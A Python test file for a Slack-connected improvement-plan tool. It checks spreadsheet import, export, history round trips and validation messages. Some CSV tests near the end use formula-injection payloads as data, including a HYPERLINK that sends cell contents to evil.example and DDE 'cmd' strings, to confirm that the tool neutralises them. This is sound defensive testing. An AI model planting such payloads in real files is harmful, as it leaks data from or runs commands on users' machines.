        RowProblem(2, "Slack user", f"{user!r} is not a Slack user id; {SLACK_ID_FIX}", LEADS_SHEET)
    ]


def measures_workbook(tmp_path: Path, *rows: list[object]) -> Path:
    """The measured plan's workbook with these rows added to its measures sheet, whose rows 2 and
    3 are priority 1's KPI "Re-referrals" and quality measure "Audits graded good"."""
    path = write_workbook(tmp_path / "plan.xlsx", empty_archive())
    book = load_workbook(path)
    for row in rows:
        book[MEASURES_SHEET].append(row)
    book.save(path)
    return path


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (
            [1, "KPI", "Re-referrals", "30%"],
            "two KPIs of priority 1 are both called 'Re-referrals' (rows 2 and 4); "
            "each needs its own name",
        ),
        (
            ["1", "quality measure", "Audits graded good", None],
            "two quality measures of priority 1 are both called 'Audits graded good' "
            "(rows 3 and 4); each needs its own name",
        ),
    ],
)
def test_two_measures_of_a_priority_and_kind_with_one_name_are_named(
    tmp_path: Path, row: list[object], message: str
) -> None:
    path = measures_workbook(tmp_path, row)

    assert rejected(path).problems == [RowProblem(4, "Measure", message, MEASURES_SHEET)]


def test_a_kpi_and_a_quality_measure_may_share_a_name(tmp_path: Path) -> None:
    path = measures_workbook(tmp_path, [1, "Quality measure", "Re-referrals", "Good"])

    [priority] = read_plan_table(path).spec.priorities
    assert priority.kpis == [MeasureSpec("Re-referrals", "21%")]
    assert priority.quality_measures == [
        MeasureSpec("Audits graded good"),
        MeasureSpec("Re-referrals", "Good"),
    ]


ORIGINAL_FIX = "cannot be edited; change the Timescale column to revise it"


def timescale_workbook(
    tmp_path: Path, changes: list[dict[str, object]], originals: dict[str, object]
) -> Path:
    """The measured plan's workbook with these Timescale history rows (GOOD_ROWS' with some cells
    changed: 1.1 from 31/03/2019 to 30/06/2019) and these actions' Original Timescale cells."""
    path = history_workbook(tmp_path, {TIMESCALE_HISTORY_SHEET: changes})
    book = load_workbook(path)
    plan = book[PLAN_SHEET]
    column = [cell.value for cell in plan[1]].index("Original Timescale") + 1
    rows = {str(plan.cell(row, 3).value).split()[0]: row for row in range(2, plan.max_row + 1)}
    for action, value in originals.items():
        plan.cell(rows[action], column).value = value
    book.save(path)
    return path


@pytest.mark.parametrize(
    ("changes", "originals", "problem"),
    [
        (  # edited
            [{}],
            {"1.1": datetime(2019, 4, 30)},
            RowProblem(
                2,
                "Original Timescale",
                f"Original Timescale is the date first agreed (31/03/2019) and {ORIGINAL_FIX}",
            ),
        ),
        (  # emptied
            [{}],
            {"1.1": None},
            RowProblem(
                2,
                "Original Timescale",
                f"Original Timescale is the date first agreed (31/03/2019) and {ORIGINAL_FIX}",
            ),
        ),
        (  # set to the revised date
            [{}],
            {"1.1": "30/06/2019"},
            RowProblem(
                2,
                "Original Timescale",
                f"Original Timescale is the date first agreed (31/03/2019) and {ORIGINAL_FIX}",
            ),
        ),
        (  # first agreed with no date
            [{"Action": "1.2", "From": None, "To": "31/03/2019"}],
            {},
            RowProblem(
                3,
                "Original Timescale",
                "Original Timescale is the date first agreed (none: leave it empty) and "
                f"{ORIGINAL_FIX}",
            ),
        ),
    ],
)
def test_an_edited_original_timescale_is_named_on_its_plan_row(
    tmp_path: Path,
    changes: list[dict[str, object]],
    originals: dict[str, object],
    problem: RowProblem,
) -> None:
    path = timescale_workbook(tmp_path, changes, originals)

    error = rejected(path)

    assert error.problems == [problem]
    assert problem.sheet is None  # the plan table itself, as for its other cells
    assert str(error) == f"plan.xlsx row {problem.row} (Original Timescale): {problem.message}"


def test_the_original_timescale_is_the_from_of_the_earliest_revision_by_date(
    tmp_path: Path,
) -> None:
    later = {"Date": "2019-02-01T09:00:00+00:00", "From": "30/06/2019", "To": "31/07/2019"}
    path = timescale_workbook(tmp_path, [later, {}], {})  # the later revision on the first row

    back = read_plan_table(path)

    assert back.spec.actions[0].original_timescale == date(2019, 3, 31)
    assert back.timescale_changes is not None and len(back.timescale_changes) == 2


def test_an_original_timescale_without_history_may_differ_from_the_timescale(
    tmp_path: Path,
) -> None:
    path = timescale_workbook(tmp_path, [{}], {"1.2": "28/02/2019"})  # history for 1.1 only

    back = read_plan_table(path)

    assert back.spec.actions[1].timescale == date(2019, 3, 31)
    assert back.spec.actions[1].original_timescale == date(2019, 2, 28)  # loaded as a revision


def test_a_bad_timescale_history_row_is_fixed_before_original_timescales_are_checked(
    tmp_path: Path,
) -> None:
    path = timescale_workbook(tmp_path, [{"From": "TBC"}, {"Date": "2019-02-01T09:00:00"}], {})

    assert rejected(path).problems == [
        RowProblem(
            2, "From", "'TBC' is not a date; write it as dd/mm/yyyy", TIMESCALE_HISTORY_SHEET
        )
    ]


def test_history_date_times_are_noted_as_utc(tmp_path: Path) -> None:
    book = load_workbook(write_workbook(tmp_path / "plan.xlsx", full_archive()))

    notes = {
        (name, cell.value): cell.comment.text
        for name in book.sheetnames
        for cell in book[name][1]
        if cell.comment
    }
    assert set(notes) == {
        (HISTORY_SHEET, "Date"),
        (HISTORY_SHEET, "Retracted"),
        (HISTORY_SHEET, "Edited"),
        (RAG_HISTORY_SHEET, "Date"),
        *(
            (PROPOSALS_SHEET, heading)
            for heading in ("Proposed at", "Confirmed at", "Decided at", "Update date")
        ),
        (TIMESCALE_HISTORY_SHEET, "Date"),
        (MEASURE_HISTORY_SHEET, "Date"),
        (ACTIONS_SHEET, "Added"),
        (ACTIONS_SHEET, "Closed"),
    }
    for note in notes.values():
        assert "in UTC" in note and "without an offset" in note and "+01:00" in note


def test_a_date_time_typed_without_an_offset_is_utc_even_in_summer(tmp_path: Path) -> None:
    path = history_workbook(tmp_path, {HISTORY_SHEET: [{"Date": "2019-07-01 09:00"}]})

    [update] = read_plan_table(path).updates or []

    assert update.at == datetime(2019, 7, 1, 9, tzinfo=UTC)


# --- Export and round trips --------------------------------------------------------------------


def small_plan() -> PlanSpec:
    return PlanSpec(
        name="Small plan",
        sections={"plan": "Plan"},
        priorities=[
            PrioritySpec(
                number=1,
                section="plan",
                recommendation="Priority 1",
                actions=[
                    ActionSpec(
                        id="1.1", text="=SUM(A1) is text, not a formula", leads=["Service Manager"]
                    ),
                ],
            )
        ],
    )


def rated_seed() -> PlanSpec:
    """The seed with every RAG, a new action, a re-timed one and a measure value, to cover each field."""
    spec = copy.deepcopy(seed_plan())
    actions = spec.actions
    for action, rag in zip(actions, (Rag.RED, Rag.AMBER, Rag.GREEN, Rag.COMPLETED), strict=False):
        action.rag = rag
    actions[1].original_timescale, actions[1].timescale = actions[1].timescale, date(2019, 6, 30)
    actions[2].timescale, actions[2].timescale_as_written = None, "TBC"
    spec.priorities[0].actions.append(
        ActionSpec(
            id="1.17", text="Added later", leads=["Service Manager"], is_new=True, rag=Rag.GREEN
        )
    )
    spec.priorities[0].kpis[0] = MeasureSpec(spec.priorities[0].kpis[0].name, "87%")
    spec.priorities.append(
        PrioritySpec(
            number=16,
            section="leadership",
            recommendation="Added later, no actions yet",
            kpis=[MeasureSpec("Audits graded good", "40%")],
        )
    )
    return spec


def test_the_seed_round_trips_through_xlsx_with_its_history(tmp_path: Path) -> None:
    spec = rated_seed()
    history = [
        UpdateRecord(
            "1.1", datetime(2018, 10, 31, 12, tzinfo=UTC), "Review concluded.", None, "seed"
        ),
        UpdateRecord(
            "7.3",
            datetime(2019, 2, 4, 9, 15, 30, 123000, tzinfo=UTC),
            "Delayed:\nnew date 30/06",
            "U123",
            "reply",
        ),
    ]

    imported = read_plan_table(write_workbook(tmp_path / "plan.xlsx", PlanArchive(spec, history)))

    assert imported.spec == spec
    assert imported.updates == history


BST = timezone(timedelta(hours=1))


def full_archive() -> PlanArchive:
    """The rated seed with some of every kind of history, as the store would export it."""
    spec = rated_seed()
    spec.actions[2].original_timescale = date(2018, 9, 30)  # 1.3's date first agreed: see below
    kpi = spec.priorities[0].kpis[0].name
    quality = spec.priorities[0].quality_measures[1].name
    return PlanArchive(
        spec=spec,
        updates=[
            UpdateRecord(
                "1.1", datetime(2018, 10, 31, 12, tzinfo=UTC), "Review done.", None, "seed"
            ),
            UpdateRecord(
                "1.2",
                datetime(2018, 11, 5, 9, 30, tzinfo=UTC),
                "Posted by mistake",
                "U0LEADER",
                "reply",
                retracted_at=datetime(2018, 11, 5, 9, 31, 2, 250000, tzinfo=UTC),
                slack_channel="D0LEADER1",
                slack_ts="1541410200.000100",
                edited_at=datetime(2018, 11, 5, 9, 30, 40, tzinfo=UTC),
            ),
            UpdateRecord(
                "1.2",
                datetime(2018, 11, 5, 9, 32, tzinfo=BST),
                "Model agreed",
                "U0LEADER",
                "modal",
                slack_channel="D0LEADER1",
                slack_ts="modal:V0123ABCD",  # what the bot records for a modal
            ),
            UpdateRecord(
                "1.3", datetime(2018, 11, 7, 9, tzinfo=UTC), "Waiting on provider", "Jo", "import"
            ),
        ],
        rag_changes=[
            RagChangeRecord(
                "1.1",
                datetime(2018, 10, 31, 12, tzinfo=UTC),
                Rag.UNRATED,
                Rag.COMPLETED,
                None,
                "seed",
            ),
            RagChangeRecord(
                "1.2",
                datetime(2018, 11, 6, 14, tzinfo=UTC),
                Rag.GREEN,
                Rag.AMBER,
                "U0APPROVER",
                "approval",
                "Slipped: waiting on recruitment",
                proposal=7,
            ),
            RagChangeRecord(
                "1.17",
                datetime(2018, 12, 1, tzinfo=UTC),
                Rag.AMBER,
                Rag.UNRATED,
                "U0ADMIN",
                "command",
            ),
        ],
        timescale_changes=[
            TimescaleChangeRecord(
                "1.2",
                datetime(2018, 11, 6, 14, 5, tzinfo=UTC),
                date(2018, 10, 31),
                date(2019, 6, 30),
                "U0APPROVER",
                "command",
                "New provider",
            ),
            TimescaleChangeRecord(
                "1.3", datetime(2018, 11, 7, tzinfo=UTC), date(2018, 9, 30), None, None, "import"
            ),
        ],
        leads=[
            LeadRecord("Director of Quality Assurance & Performance", "U0DIRECTOR"),
            LeadRecord("Service Manager", "U0LEADER"),
            LeadRecord("Service Manager", "U0DEPUTY", deputy=True),
        ],
        measure_values=[
            MeasureValueRecord(
                1, "kpi", kpi, "72%", datetime(2018, 10, 1, tzinfo=UTC), None, "seed"
            ),
            MeasureValueRecord(
                1, "kpi", kpi, "87%", datetime(2018, 11, 1, 8, tzinfo=UTC), "U0LEADER", "command"
            ),
            MeasureValueRecord(
                1, "quality", quality, "Good", datetime(2018, 11, 2, tzinfo=UTC), "U0QA", "modal"
            ),
            MeasureValueRecord(
                16,
                "kpi",
                "Audits graded good",
                "40%",
                datetime(2019, 1, 3, tzinfo=UTC),
                None,
                "import",
            ),
        ],
        proposals=[
            ProposalRecord(  # accepted: RAG history's 1.2 change applied it
                number=7,
                action="1.2",
                proposed_at=datetime(2018, 11, 5, 8, 32, tzinfo=UTC),
                proposed_by="U0LEADER",
                rag=Rag.AMBER,
                revised_timescale=None,
                evidence=None,
                status="accepted",
                update=UpdateRef(
                    datetime(2018, 11, 5, 9, 32, tzinfo=BST),
                    "U0LEADER",
                    "D0LEADER1",
                    "modal:V0123ABCD",
                ),
                confirmed_at=datetime(2018, 11, 5, 8, 33, tzinfo=UTC),
                decided_by="U0APPROVER",
                decided_at=datetime(2018, 11, 6, 14, tzinfo=UTC),
                echo_channel="D0LEADER1",
                echo_ts="1541406720.000200",
                approval_messages='[{"channel":"D0APPROVER","ts":"1541406800.000300"}]',
            ),
            ProposalRecord(  # undecided, only the timescale; its update named by date and author
                number=9,
                action="1.3",
                proposed_at=datetime(2018, 11, 7, 9, tzinfo=UTC),
                proposed_by="U0LEADER",
                rag=None,
                revised_timescale=date(2019, 6, 30),
                evidence="Provider's letter",
                status="evidence_pending",
                update=UpdateRef(datetime(2018, 11, 7, 9, tzinfo=UTC), "Jo"),
            ),
        ],
    )


def test_a_whole_archive_round_trips_through_xlsx(tmp_path: Path) -> None:
    archive = full_archive()

    back = read_plan_table(write_workbook(tmp_path / "plan.xlsx", archive))

    assert back == archive
    # Each list on its own too, so that a failure says which one.
    assert back.spec == archive.spec
    assert back.updates == archive.updates
    assert back.rag_changes == archive.rag_changes
    assert back.timescale_changes == archive.timescale_changes
    assert back.leads == archive.leads
    assert back.measure_values == archive.measure_values
    assert back.proposals == archive.proposals
    # Date-times come back in UTC.
    assert back.updates is not None and back.updates[2].at.tzinfo is UTC


def test_history_sheets_have_the_documented_layout(tmp_path: Path) -> None:
    book = load_workbook(write_workbook(tmp_path / "plan.xlsx", full_archive()))

    assert book.sheetnames == [
        "Plan",
        "KPIs and quality measures",
        ACTIONS_SHEET,
        HISTORY_SHEET,
        RAG_HISTORY_SHEET,
        PROPOSALS_SHEET,
        TIMESCALE_HISTORY_SHEET,
        MEASURE_HISTORY_SHEET,
        LEADS_SHEET,
        TRACKER_SHEET,
        "About this plan",
    ]

    def rows(name: str) -> list[tuple[object, ...]]:
        return list(book[name].iter_rows(values_only=True))

    assert rows(HISTORY_SHEET)[:3] == [
        (
            "Action",
            "Date",
            "Author",
            "Source",
            "Update",
            "Retracted",
            "Slack channel",
            "Slack ts",
            "Edited",
        ),
        ("1.1", "2018-10-31T12:00:00+00:00", None, "seed", "Review done.", None, None, None, None),
        (
            "1.2",
            "2018-11-05T09:30:00+00:00",
            "U0LEADER",
            "reply",
            "Posted by mistake",
            "2018-11-05T09:31:02.250000+00:00",
            "D0LEADER1",
            "1541410200.000100",  # text, never a number (which would lose its last zeros)
            "2018-11-05T09:30:40+00:00",
        ),
    ]
    assert rows(HISTORY_SHEET)[3][1] == "2018-11-05T08:32:00+00:00"  # BST written as UTC
    assert rows(RAG_HISTORY_SHEET)[:3] == [
        ("Action", "Date", "From", "To", "By", "Via", "Reason", "Proposal"),
        (
            "1.1",
            "2018-10-31T12:00:00+00:00",
            "Not yet rated",
            "Completed",
            None,
            "seed",
            None,
            None,
        ),
        (
            "1.2",
            "2018-11-06T14:00:00+00:00",
            "Green",
            "Amber",
            "U0APPROVER",
            "approval",
            "Slipped: waiting on recruitment",
            7,
        ),
    ]
    proposals = book[PROPOSALS_SHEET]
    assert rows(PROPOSALS_SHEET) == [
        (
            "Proposal",
            "Action",
            "Proposed at",
            "Proposed by",
            "RAG",
            "Revised timescale",
            "Evidence",
            "Status",
            "Confirmed at",
            "Decided at",
            "Decided by",
            "Reason",
            "Update date",
            "Update author",
            "Update channel",
            "Update ts",
            "Echo channel",
            "Echo ts",
            "Approval messages",
        ),
        (
            7,
            "1.2",
            "2018-11-05T08:32:00+00:00",
            "U0LEADER",
            "Amber",
            None,
            None,
            "accepted",
            "2018-11-05T08:33:00+00:00",
            "2018-11-06T14:00:00+00:00",
            "U0APPROVER",
            None,
            "2018-11-05T08:32:00+00:00",
            "U0LEADER",
            "D0LEADER1",
            "modal:V0123ABCD",
            "D0LEADER1",
            "1541406720.000200",
            '[{"channel":"D0APPROVER","ts":"1541406800.000300"}]',
        ),
        (
            9,
            "1.3",
            "2018-11-07T09:00:00+00:00",
            "U0LEADER",
            None,
            datetime(2019, 6, 30),
            "Provider's letter",
            "evidence_pending",
            None,
            None,
            None,
            None,
            "2018-11-07T09:00:00+00:00",
            "Jo",
            None,
            None,
            None,
            None,
            None,
        ),
    ]
    assert proposals["F3"].number_format == "dd/mm/yyyy"
    timescales = book[TIMESCALE_HISTORY_SHEET]
    assert rows(TIMESCALE_HISTORY_SHEET) == [
        ("Action", "Date", "From", "To", "By", "Via", "Reason"),
        (
            "1.2",
            "2018-11-06T14:05:00+00:00",
            datetime(2018, 10, 31),
            datetime(2019, 6, 30),
            "U0APPROVER",
            "command",
            "New provider",
        ),
        ("1.3", "2018-11-07T00:00:00+00:00", datetime(2018, 9, 30), None, None, "import", None),
    ]
    assert timescales["C2"].number_format == timescales["D2"].number_format == "dd/mm/yyyy"
    assert rows(LEADS_SHEET) == [
        ("Role", "Slack user", "Deputy"),
        ("Director of Quality Assurance & Performance", "U0DIRECTOR", None),
        ("Service Manager", "U0LEADER", None),
        ("Service Manager", "U0DEPUTY", "yes"),
    ]
    measures = rows(MEASURE_HISTORY_SHEET)
    assert measures[0] == ("Priority", "Kind", "Measure", "Value", "Date", "By", "Source")
    assert [row[:2] for row in measures[1:]] == [
        (1, "KPI"),
        (1, "KPI"),
        (1, "Quality measure"),
        (16, "KPI"),
    ]
    assert measures[2][3:] == ("87%", "2018-11-01T08:00:00+00:00", "U0LEADER", "command")
    for name in (HISTORY_SHEET, RAG_HISTORY_SHEET, PROPOSALS_SHEET, LEADS_SHEET):
        assert book[name].freeze_panes == "A2" and book[name]["A1"].font.bold


def test_no_history_and_empty_history_round_trip_apart(tmp_path: Path) -> None:
    spec = small_plan()
    bare = PlanArchive(spec)
    empty = PlanArchive(
        spec,
        updates=[],
        rag_changes=[],
        timescale_changes=[],
        leads=[],
        measure_values=[],
        proposals=[],
    )

    bare_path = write_workbook(tmp_path / "bare.xlsx", bare)
    empty_path = write_workbook(tmp_path / "empty.xlsx", empty)

    assert read_plan_table(bare_path) == bare  # every list None: no such sheets
    assert load_workbook(bare_path).sheetnames == [
        "Plan",
        "KPIs and quality measures",
        ACTIONS_SHEET,  # the actions' records: part of the plan, not a history list
        TRACKER_SHEET,
        "About this plan",
    ]
    assert read_plan_table(empty_path) == empty  # every list []: the sheets, headings only
    assert load_workbook(empty_path)[LEADS_SHEET].max_row == 1


def test_an_older_export_without_the_new_sheets_and_column_is_read(tmp_path: Path) -> None:
    """An export from before the history sheets: no Retracted column, no RAG, timescale, leads
    or measure history sheets."""
    spec = small_plan()
    updates = [UpdateRecord("1.1", datetime(2019, 1, 1, 9, tzinfo=UTC), "Started", "U1", "reply")]
    path = write_workbook(tmp_path / "plan.xlsx", PlanArchive(spec, updates))
    book = load_workbook(path)
    book[HISTORY_SHEET].delete_cols(6)  # the Retracted column
    book.save(path)

    back = read_plan_table(path)

    assert back == PlanArchive(spec, updates)
    assert back.rag_changes is back.timescale_changes is back.leads is back.measure_values is None


def test_a_csv_has_no_history(tmp_path: Path) -> None:
    back = read_plan_table(write_csv(tmp_path / "plan.csv", small_plan()))

    assert back == PlanArchive(back.spec)


def test_history_rows_typed_by_hand_are_read(tmp_path: Path) -> None:
    path = write_workbook(tmp_path / "plan.xlsx", empty_archive())
    book = load_workbook(path)
    book[RAG_HISTORY_SHEET].append(["Action 1.1.", "2019-01-01 09:00", "", "r", None, None, None])
    book[TIMESCALE_HISTORY_SHEET].append(
        ["1.2", datetime(2019, 1, 2, 10, 30), "31 March 2019", "", None, None, None]
    )
    book[LEADS_SHEET].append(["Service Manager", USER, "Yes"])
    book[LEADS_SHEET].append(["Head of Service", USER, "no"])
    book[MEASURE_HISTORY_SHEET].append(
        ["1", "quality measure", "Audits graded good", "Requires improvement", "2019-01-03"]
    )
    book.save(path)

    back = read_plan_table(path)

    at = datetime(2019, 1, 1, 9, tzinfo=UTC)
    assert back.rag_changes == [RagChangeRecord("1.1", at, Rag.UNRATED, Rag.RED, None, "import")]
    assert back.timescale_changes == [
        TimescaleChangeRecord(
            "1.2", datetime(2019, 1, 2, 10, 30, tzinfo=UTC), date(2019, 3, 31), None, None, "import"
        )
    ]
    assert back.leads == [
        LeadRecord("Service Manager", USER, deputy=True),
        LeadRecord("Head of Service", USER),
    ]
    assert back.measure_values == [
        MeasureValueRecord(
            1,
            "quality",
            "Audits graded good",
            "Requires improvement",
            datetime(2019, 1, 3, tzinfo=UTC),
            None,
            "import",
        )
    ]


def test_an_owners_own_leads_sheet_is_left_alone(tmp_path: Path) -> None:
    path = write_sheet(tmp_path / "lip.xlsx", seed_layout_rows())
    book = load_workbook(path)
    book.create_sheet("Leads").append(["Name", "Role", "Email"])
    book["Leads"].append(["A. Person", "Service Manager", "a.person@example.org"])
    book.save(path)

    assert read_plan_table(path).leads is None


def test_the_workbook_is_in_the_plans_own_layout(tmp_path: Path) -> None:
    spec = rated_seed()
    months = [("NOV 2018", [1, 1, 1, 1, 90, 0, 94]), ("DEC 2018", [0, 2, 1, 1, 90, 1, 94])]
    book = load_workbook(write_workbook(tmp_path / "plan.xlsx", PlanArchive(spec), months))

    plan = book["Plan"]
    assert [c.value for c in plan[1]] == [name for name, _ in PLAN_COLUMNS]
    assert plan.freeze_panes == "A2" and plan["A1"].font.bold
    assert plan["A2"].value == recommendation_cell(spec.priorities[0])
    assert plan["A2"].value.startswith("Priority 1: Urgently review ICRT")
    assert plan["A2"].value.endswith("(para 21, 23, 78) (Ref: Ofsted Recommendation 1)")
    assert plan["A3"].value is None  # the recommendation is on the priority's first row only
    assert plan["C2"].value == "1.1 Commission an independent review of ICRT."
    assert plan["E2"].value == datetime(2018, 9, 1) and plan["E2"].number_format == "dd/mm/yyyy"
    assert plan["E2"].alignment.wrap_text
    fills = {
        plan.cell(row, 7).value: plan.cell(row, 7).fill.fgColor.rgb[-6:] for row in range(2, 7)
    }
    assert fills == {
        "Red": RAG_FILLS[Rag.RED],
        "Amber": "FFC000",
        "Green": "00B050",
        "Completed": "0070C0",
        None: "000000",
    }
    assert plan.cell(6, 7).fill.fill_type is None  # not yet rated: no fill

    tracker = book[TRACKER_SHEET]
    rows = {row[0]: row[1:] for row in tracker.iter_rows(min_row=3, max_row=9, values_only=True)}
    assert list(rows) == list(TRACKER_ROWS)
    assert sum(rows["Total"][:-1]) == rows["Total"][-1] == 94  # the seed's 93 and one new action
    assert rows["New Actions"][0] == 1 and rows["Red"][0] == 1
    by_month = list(tracker.iter_rows(min_row=11, max_row=18, max_col=3, values_only=True))
    assert by_month[0] == ("By month", "NOV 2018", "DEC 2018")
    assert by_month[-1] == ("Total", 94, 94)


def test_the_tracker_counts_the_seeds_93_actions(tmp_path: Path) -> None:
    book = load_workbook(write_workbook(tmp_path / "plan.xlsx", PlanArchive(seed_plan())))

    tracker = book[TRACKER_SHEET]
    header = [c.value for c in tracker[2]][1:]
    totals = [c.value for c in tracker[9]]
    assert header == [*range(1, 16), "All"]
    assert totals[0] == "Total" and sum(totals[1:16]) == totals[16] == 93
    assert [c.value for c in tracker[7]][16] == 93  # all not yet rated


def test_a_month_with_the_wrong_number_of_values_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="NOV 2018"):
        write_workbook(tmp_path / "plan.xlsx", PlanArchive(small_plan()), [("NOV 2018", [1, 2, 3])])


def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    spec = small_plan()

    assert read_plan_table(write_workbook(tmp_path / "plan.xlsx", PlanArchive(spec))).spec == spec


def csv_fields(spec: PlanSpec) -> list[tuple[object, ...]]:
    """What a CSV carries (see bot/spreadsheet/__init__.py's docstring)."""
    return [
        (
            p.number,
            spec.sections[p.section],
            p.ofsted_recommendation,
            p.recommendation,
            [
                (
                    a.id,
                    a.text,
                    a.leads,
                    a.timescale,
                    a.original_timescale,
                    a.progress,
                    a.rag,
                    a.note,
                )
                for a in p.actions
            ],
        )
        for p in spec.priorities
    ]


def test_the_seed_round_trips_through_csv_on_the_fields_csv_carries(tmp_path: Path) -> None:
    spec = rated_seed()

    back = read_plan_table(write_csv(tmp_path / "plan.csv", spec)).spec

    assert csv_fields(back) == csv_fields(spec)
    assert back.sections == spec.sections
    assert len(back.actions) == 94 and back.priorities[-1].number == 16


def test_the_csv_has_the_documented_columns(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "plan.csv", seed_plan())

    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == [
        "Priority",
        "Section",
        "Ofsted Recommendation",
        "Recommendation",
        "Ref",
        "Action",
        "Lead",
        "Timescale",
        "Original Timescale",
        "Progress Update",
        "RAG",
        "Note",
    ]
    first = rows[0]
    assert (first["Priority"], first["Ref"], first["Timescale"], first["RAG"]) == (
        "1",
        "1.1",
        "01/09/2018",
        "",
    )
    twelve = next(row for row in rows if row["Ref"] == "1.12")
    assert twelve["Lead"] == "Chair of SSCB Learning and Workforce Development Group;"
    two_six = next(row for row in rows if row["Ref"] == "2.6")
    assert two_six["Lead"] == "ICRT Manager; MSET Co-ordinator"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+44 191 000 0000", "'+44 191 000 0000"),
        ("-1 day late", "'-1 day late"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),  # a quote already there is kept: reading takes off only the one added
        ("'quoted", "'quoted"),
        ("Review = done", "Review = done"),
        ("", ""),
        (7, 7),
    ],
)
def test_csv_text_that_excel_would_run_gets_a_quote(text: object, written: object) -> None:
    assert guard_formula(text) == written
    if isinstance(text, str):
        assert unguard_formula(written) == text


def test_the_csv_never_holds_a_formula_and_round_trips_exactly(tmp_path: Path) -> None:
    spec = PlanSpec(
        name="Improvement plan",
        sections={"plan": "Plan", "governance": "=Governance"},
        priorities=[
            PrioritySpec(
                number=1,
                section="governance",
                recommendation="-Ensure the board is sighted",
                actions=[
                    ActionSpec(
                        id="1.1",
                        text='=HYPERLINK("http://evil.example/?"&A1,"Click")',
                        leads=["Service Manager"],
                        progress="- Review done\n- Audit booked",
                        note="@SUM(1+1)*cmd|' /C calc'!A0",
                    ),
                    ActionSpec(
                        id="1.2",
                        text="+1 social worker",
                        leads=["Head of Service"],
                        progress="Done; =cmd|' /C calc'!A0",
                        note="'=1+1 was typed with its quote",
                    ),
                ],
            ),
        ],
    )

    path = write_csv(tmp_path / "plan.csv", spec)

    raw = path.read_text(encoding="utf-8-sig")
    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Every cell is in double quotes, so a ";" in the text cannot start a new cell where Excel
    # splits on semicolons (the comma being the decimal mark).
    outside_quotes = "".join(part for n, part in enumerate(raw.split('"')) if n % 2 == 0)
    assert set(outside_quotes) <= {",", "\r", "\n"}
    back = read_plan_table(path).spec
    assert csv_fields(back) == csv_fields(spec)
    assert back.actions[0].progress == "- Review done\n- Audit booked"  # a bullet, unchanged
